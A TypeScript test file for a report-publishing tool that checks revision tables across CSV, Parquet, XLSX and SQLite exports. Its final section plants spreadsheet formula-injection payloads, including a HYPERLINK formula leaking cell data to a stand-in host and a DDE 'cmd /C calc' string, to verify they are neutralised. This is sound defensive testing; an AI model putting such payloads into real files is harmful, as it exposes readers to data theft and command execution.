/**
 * `nianbao publish` carries what each revision changed: on a database built by `nianbao demo`
 * (round 2 revises one report's cell at the same URL and rewords another's text only), the
 * package has `revisions` (with its `id`), `revision_cells` and `revision_sentences`, keyed by
 * `(revision_id, ord)` and joined by `revision_id`, in CSV, Parquet (read with hyparquet), the
 * XLSX workbook (read with exceljs) and the SQLite copy. A copy of that database whose revision
 * text is hostile (a spreadsheet formula, a sentence past Excel's cell limit) is published too:
 * the CSV neutralises the formula, the XLSX keeps it as text, Parquet and SQLite keep it as is.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import { asyncBufferFromFile, parquetReadObjects } from 'hyparquet';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chineseLabel } from '../../src/publish/fields.js';
import { publishedTables } from '../../src/publish/tables.js';
import { XLSX_MAX_CELL_CHARS } from '../../src/publish/writers.js';
import { ensureBuilt, runBin } from '../crawl/helpers.js';
import { parseCsv } from '../helpers/csv.js';
import { runCli, tempDir } from '../store/helpers.js';

interface Field {
  name: string;
  type: string;
  title: string;
  description: string;
}
interface Resource {
  name: string;
  path: string;
  schema?: { fields: Field[]; primaryKey?: string[]; foreignKeys?: { fields: string[]; reference: { resource: string; fields: string[] } }[] };
  'nianbao:rows'?: number;
}

const REVISION_TABLES = ['revisions', 'revision_cells', 'revision_sentences'];

const tmp = tempDir('nianbao-publish-revisions-');
const dbFile = join(tmp.dir, 'demo.db');
const hostileDb = join(tmp.dir, 'hostile.db');
const out = join(tmp.dir, 'pkg');
const hostileOut = join(tmp.dir, 'hostile');

const plain = (v: unknown): unknown => (typeof v === 'bigint' ? Number(v) : v === undefined ? null : v);

/** The rows of a published table as the package's SELECT reads them from `file`. */
function sourceRows(file: string, table: string): { columns: string[]; rows: unknown[][] } {
  const db = new Database(file, { readonly: true });
  try {
    const t = publishedTables(db, { filtered: false, otherReportsKept: true }).find((x) => x.name === table)!;
    const stmt = db.prepare(t.sql).raw(true);
    return { columns: stmt.columns().map((c) => c.name), rows: (stmt.all() as unknown[][]).map((r) => r.map(plain)) };
  } finally {
    db.close();
  }
}

/** A published CSV as objects, each field cast by the resource's Table Schema. */
function csvObjects(dir: string, r: Resource): Record<string, unknown>[] {
  const text = readFileSync(join(dir, r.path), 'utf8');
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const [header, ...rows] = parseCsv(text.slice(1));
  const types = new Map(r.schema!.fields.map((f) => [f.name, f.type]));
  return rows.map((row) =>
    Object.fromEntries(
      header!.map((h, i) => {
        const v = row[i]!;
        const t = types.get(h);
        return [h, v === '' ? null : t === 'integer' || t === 'number' ? Number(v) : v];
      }),
    ),
  );
}

function descriptor(dir: string): Map<string, Resource> {
  const pkg = JSON.parse(readFileSync(join(dir, 'datapackage.json'), 'utf8')) as { resources: Resource[] };
  return new Map(pkg.resources.map((r) => [r.name, r]));
}

async function sheetRows(dir: string, name: string): Promise<{ header: unknown[]; rows: unknown[][]; types: number[][] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(join(dir, 'nianbao.xlsx'));
  const ws = wb.getWorksheet(name);
  expect(ws, name).toBeDefined();
  const header = (ws!.getRow(1).values as unknown[]).slice(1);
  const rows: unknown[][] = [];
  const types: number[][] = [];
  ws!.eachRow((row, n) => {
    if (n === 1) return;
    const cells = header.map((_, i) => row.getCell(i + 1));
    rows.push(cells.map((c) => plain(c.value ?? null)));
    types.push(cells.map((c) => c.type));
  });
  return { header, rows, types };
}

let byName: Map<string, Resource>;

beforeAll(async () => {
  ensureBuilt();
  const demo = await runBin(['demo', '--db', dbFile, '--progress', 'none', '--no-browser', '--port', '0'], {}, 150_000);
  expect(demo.code, demo.stderr).toBe(0);
  const r = runCli(['publish', out, '--db', dbFile]);
  expect(r.code, r.stderr).toBe(0);
  byName = descriptor(out);
}, 200_000);

afterAll(() => tmp.cleanup());

describe('the revision tables of a package published from the demo', () => {
  it('are resources with Chinese titles, English descriptions and keys that join them to revisions.id', () => {
    for (const name of REVISION_TABLES) {
      for (const resource of [name, `${name}-parquet`]) expect(byName.has(resource), resource).toBe(true);
      const schema = byName.get(name)!.schema!;
      for (const f of schema.fields) {
        expect(f.title, `${name}.${f.name}`).not.toBe(f.name);
        expect(f.description, `${name}.${f.name}`).not.toMatch(/as in the database's/);
      }
    }
    expect(byName.get('revisions')!.schema!.primaryKey).toEqual(['id']);
    for (const name of ['revision_cells', 'revision_sentences']) {
      const schema = byName.get(name)!.schema!;
      expect(schema.primaryKey).toEqual(['revision_id', 'ord']);
      expect(schema.foreignKeys).toContainEqual({ fields: ['revision_id'], reference: { resource: 'revisions', fields: ['id'] } });
    }
    const cells = byName.get('revision_cells')!.schema!.fields;
    expect(cells.find((f) => f.name === 'old_value')?.type).toBe('integer');
    expect(cells.find((f) => f.name === 'new_value')?.title).toBe('新数值');
    expect(byName.get('revision_sentences')!.schema!.fields.map((f) => f.name)).toEqual(expect.arrayContaining(['change', 'old_text', 'new_text', 'template']));
    // Migration 22's marks of page-template changes travel with the tables.
    expect(byName.get('revisions')!.schema!.fields.map((f) => f.name)).toContain('template_only');
    const readme = readFileSync(join(out, 'README.md'), 'utf8');
    expect(readme).toContain('`revision_id` = `revisions.id`');
  });

  it('says what the same-URL revision changed (its cell, old → new, as the two reports hold it) and what the text-only one did', () => {
    const revisions = csvObjects(out, byName.get('revisions')!);
    const cells = csvObjects(out, byName.get('revision_cells')!);
    const sentences = csvObjects(out, byName.get('revision_sentences')!);
    expect(revisions.length).toBe(2);
    const withCells = revisions.filter((r) => (r['cells_changed'] as number) > 0);
    const textOnly = revisions.filter((r) => r['cells_changed'] === 0);
    expect(withCells.length).toBe(1);
    expect(textOnly.length).toBe(1);
    for (const r of revisions) expect(r['kind']).toBe('same_url');
    // The demo's two revisions are the agencies' own (one cell, one reworded sentence), not a template's.
    for (const r of revisions) expect(r['template_only']).toBe(0);

    // The cell: joined by revision_id, equal to the cell of each version in the database.
    const changed = cells.filter((c) => c['revision_id'] === withCells[0]!['id']);
    expect(changed.length).toBe(withCells[0]!['cells_changed']);
    const db = new Database(dbFile, { readonly: true });
    try {
      const value = db.prepare('SELECT value FROM cells WHERE report_id = ? AND table_name = ? AND row_key = ? AND col_key = ?').pluck();
      for (const c of changed) {
        expect(c['old_value']).toBe(value.get(withCells[0]!['old_report_id'], c['table_name'], c['row_key'], c['col_key']));
        expect(c['new_value']).toBe(value.get(withCells[0]!['new_report_id'], c['table_name'], c['row_key'], c['col_key']));
        expect(c['report_id']).toBe(withCells[0]!['new_report_id']);
        expect(c['row_label_zh']).toBeTruthy();
        expect(c['col_label_zh']).toBeTruthy();
      }
      expect(changed.map((c) => [c['table_name'], c['row_key']])).toEqual([['active', 'licensing']]);
    } finally {
      db.close();
    }
    expect(cells.every((c) => c['revision_id'] !== textOnly[0]!['id'])).toBe(true);

    // The text: every sentence counted by the revision, the reworded one old → new.
    const text = sentences.filter((s) => s['revision_id'] === textOnly[0]!['id']);
    const t = textOnly[0]!;
    expect(text.length).toBe((t['sentences_changed'] as number) + (t['sentences_added'] as number) + (t['sentences_removed'] as number));
    const reworded = text.find((s) => s['change'] === 'changed')!;
    expect(reworded['new_text']).toContain('回应社会关切不够及时');
    expect(reworded['old_text']).not.toContain('回应社会关切不够及时');
    for (const s of text.filter((x) => x['change'] === 'added')) expect(s['old_text']).toBeNull();
    const ids = new Set(revisions.map((r) => r['id']));
    for (const row of [...cells, ...sentences]) expect(ids.has(row['revision_id'])).toBe(true);
  });

  it('holds the same rows in CSV, Parquet, the XLSX sheet and the SQLite copy', async () => {
    for (const name of REVISION_TABLES) {
      const src = sourceRows(dbFile, name);
      expect(src.rows.length, name).toBeGreaterThan(0);
      const r = byName.get(name)!;
      expect(r['nianbao:rows']).toBe(src.rows.length);
      const fromCsv = csvObjects(out, r).map((o) => src.columns.map((c) => o[c]));
      expect(fromCsv, `${name}.csv`).toEqual(src.rows);

      const file = await asyncBufferFromFile(join(out, byName.get(`${name}-parquet`)!.path));
      const fromParquet = (await parquetReadObjects({ file })).map((o) => src.columns.map((c) => plain(o[c])));
      expect(fromParquet, `${name}.parquet`).toEqual(src.rows);

      const sheet = await sheetRows(out, name);
      expect(sheet.header).toEqual(src.columns.map((c) => chineseLabel(name, c)));
      expect(sheet.rows, `${name} sheet`).toEqual(src.rows);

      const copy = sourceRows(join(out, 'nianbao.db'), name);
      expect(copy, `${name} in nianbao.db`).toEqual(src);
    }
  });

  it('keeps, in a filtered package, the revisions of the reports it keeps and what they changed', () => {
    const dir = join(tmp.dir, 'y2023');
    const r = runCli(['publish', dir, '--db', dbFile, '--year', '2023']);
    expect(r.code, r.stderr).toBe(0);
    const res = descriptor(dir);
    const kept = new Set(csvObjects(dir, res.get('report_summary')!).map((s) => s['report_id']));
    const revisions = csvObjects(dir, res.get('revisions')!);
    expect(revisions.length).toBe(1);
    expect(revisions[0]!['year']).toBe(2023);
    for (const v of revisions) expect(kept.has(v['new_report_id'])).toBe(true);
    expect(csvObjects(dir, res.get('revision_cells')!)).toEqual([]);
    // Without rows, the values are still typed numbers (and the raw text strings).
    const types = Object.fromEntries(res.get('revision_cells')!.schema!.fields.map((f) => [f.name, f.type]));
    expect(types).toMatchObject({ old_value: 'number', new_value: 'number', old_raw: 'string', revision_id: 'integer' });
    const sentences = csvObjects(dir, res.get('revision_sentences')!);
    expect(sentences.length).toBeGreaterThan(0);
    for (const s of sentences) expect(s['revision_id']).toBe(revisions[0]!['id']);
    // The old version may be of another year: no foreign key promises it in a filtered package.
    expect(res.get('revisions')!.schema!.foreignKeys!.map((fk) => fk.fields[0])).toEqual(['new_report_id']);
  });
});

describe('hostile revision text', () => {
  const FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"详情")';
  const AT_FORMULA = "@SUM(1+1)*cmd|' /C calc'!A0";
  // A character outside the BMP (two UTF-16 units) across the cut: cut before it, not inside it.
  const LONG = `${'句'.repeat(XLSX_MAX_CELL_CHARS - 2)}𠀀${'尾'.repeat(100)}`;
  let res: Map<string, Resource>;

  beforeAll(async () => {
    const src = new Database(dbFile, { readonly: true });
    await src.backup(hostileDb);
    src.close();
    const db = new Database(hostileDb);
    try {
      // Text a portal could publish: a formula as a sentence, a raw cell, and a sentence past Excel's cell limit.
      db.prepare("UPDATE revision_sentences SET new_text = ? WHERE change = 'added'").run(FORMULA);
      db.prepare("UPDATE revision_sentences SET old_text = ? WHERE change = 'changed'").run(LONG);
      db.prepare('UPDATE revision_cells SET old_raw = ?, new_raw = ?').run(AT_FORMULA, '-');
    } finally {
      db.close();
    }
    const r = runCli(['publish', hostileOut, '--db', hostileDb]);
    expect(r.code, r.stderr).toBe(0);
    res = descriptor(hostileOut);
  }, 120_000);

  it('CSV: a formula starts with an added quote; a lone dash stays as it is', () => {
    const sentences = csvObjects(hostileOut, res.get('revision_sentences')!);
    expect(sentences.find((s) => s['change'] === 'added')!['new_text']).toBe(`'${FORMULA}`);
    expect(sentences.find((s) => s['change'] === 'changed')!['old_text']).toBe(LONG);
    const cells = csvObjects(hostileOut, res.get('revision_cells')!);
    expect(cells[0]!['old_raw']).toBe(`'${AT_FORMULA}`);
    expect(cells[0]!['new_raw']).toBe('-');
  });

  it('Parquet and SQLite: the text unchanged', async () => {
    const file = await asyncBufferFromFile(join(hostileOut, res.get('revision_sentences-parquet')!.path));
    const rows = await parquetReadObjects({ file });
    expect(rows.find((s) => s['change'] === 'added')!['new_text']).toBe(FORMULA);
    expect(rows.find((s) => s['change'] === 'changed')!['old_text']).toBe(LONG);
    const copy = sourceRows(join(hostileOut, 'nianbao.db'), 'revision_cells');
    expect(copy.rows[0]![copy.columns.indexOf('old_raw')]).toBe(AT_FORMULA);
  });

  it('XLSX: the formula is a text cell, not a formula; the long sentence is cut to Excel’s limit', async () => {
    const sheet = await sheetRows(hostileOut, 'revision_sentences');
    const cols = sourceRows(hostileDb, 'revision_sentences').columns;
    const change = cols.indexOf('change');
    const added = sheet.rows.findIndex((r) => r[change] === 'added');
    expect(sheet.rows[added]![cols.indexOf('new_text')]).toBe(FORMULA);
    expect(sheet.types[added]![cols.indexOf('new_text')]).toBe(ExcelJS.ValueType.String);
    const long = sheet.rows.find((r) => r[change] === 'changed')![cols.indexOf('old_text')] as string;
    expect(long.length).toBeLessThanOrEqual(XLSX_MAX_CELL_CHARS);
    expect(long.endsWith('…')).toBe(true);
    expect(LONG.startsWith(long.slice(0, -1))).toBe(true);
    const cells = await sheetRows(hostileOut, 'revision_cells');
    const cellCols = sourceRows(hostileDb, 'revision_cells').columns;
    expect(cells.rows[0]![cellCols.indexOf('old_raw')]).toBe(AT_FORMULA);
    expect(cells.types[0]![cellCols.indexOf('old_raw')]).toBe(ExcelJS.ValueType.String);
  });
});
